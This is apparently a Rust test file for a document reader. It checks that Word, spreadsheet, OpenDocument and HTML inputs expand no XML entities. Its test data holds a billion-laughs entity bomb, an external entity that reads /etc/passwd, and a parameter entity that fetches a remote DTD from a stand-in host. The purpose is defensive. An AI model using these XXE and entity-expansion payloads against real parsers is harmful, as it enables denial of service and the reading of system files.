//! Entities that a file defines itself, inside and outside of it: none is expanded, nothing
//! outside is opened.

use crate::archive::zipped;
use crate::made::{docx_part, words, xlsx};

/// Each entity stands for ten of the one before.
fn laughs() -> String {
    let mut text = String::from(r#"<!DOCTYPE x [<!ENTITY a0 "haha">"#);
    for level in 1..12 {
        let before = format!("&a{};", level - 1).repeat(10);
        text += &format!(r#"<!ENTITY a{level} "{before}">"#);
    }
    text + r#"<!ENTITY out SYSTEM "file:///etc/passwd"><!ENTITY % far SYSTEM "http://192.0.2.1/x.dtd">%far;]>"#
}

const USED: &str = "甲&a11;&out;&amp;&#x7532;";

fn harmless(bytes: &[u8]) {
    let document = office::read(bytes).unwrap();
    let words = words(&document);
    assert!(words.contains('甲'), "{words}");
    assert!(
        !words.contains("haha") && !words.contains("root:"),
        "{words}"
    );
    assert!(words.len() < 1000);
}

#[test]
fn a_word_document_expands_no_entities() {
    let laughs = laughs();
    harmless(&docx_part(&format!(
        r#"{laughs}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{USED}</w:t></w:r></w:p></w:body></w:document>"#
    )));
}

#[test]
fn a_workbook_expands_no_entities() {
    let rows = format!(r#"<row><c t="inlineStr"><is><t>{USED}</t></is></c></row>"#);
    harmless(&xlsx(&rows));
    let strings = format!("{}<sst><si><t>{USED}</t></si></sst>", laughs());
    harmless(&zipped(&[
        ("[Content_Types].xml", "<Types/>"),
        (
            "xl/workbook.xml",
            r#"<workbook><sheets><sheet name="表1" r:id="a"/></sheets></workbook>"#,
        ),
        (
            "xl/_rels/workbook.xml.rels",
            r#"<Relationships><Relationship Id="a" Type="x/worksheet" Target="s.xml"/><Relationship Id="b" Type="x/sharedStrings" Target="t.xml"/></Relationships>"#,
        ),
        (
            "xl/s.xml",
            r#"<worksheet><sheetData><row><c t="s"><v>0</v></c></row></sheetData></worksheet>"#,
        ),
        ("xl/t.xml", &strings),
    ]));
}

#[test]
fn open_documents_expand_no_entities() {
    let laughs = laughs();
    let sheet = format!(
        r#"{laughs}<o xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><table:table table:name="a"><table:table-row><table:table-cell><text:p>{USED}</text:p></table:table-cell></table:table-row></table:table></o>"#
    );
    let mime = "application/vnd.oasis.opendocument.spreadsheet";
    harmless(&zipped(&[("mimetype", mime), ("content.xml", &sheet)]));
    let text = format!(
        r#"{laughs}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>{USED}</text:p></office:text></office:body></office:document-content>"#
    );
    let mime = "application/vnd.oasis.opendocument.text";
    harmless(&zipped(&[("mimetype", mime), ("content.xml", &text)]));
}

#[test]
fn a_web_page_expands_no_entities() {
    let page = format!("{}<html><body><p>{USED}</p></body></html>", laughs());
    // What the page defines may be read as text; it is not expanded.
    let document = office::read(page.as_bytes()).unwrap();
    assert!(words(&document).len() < 4000);
}
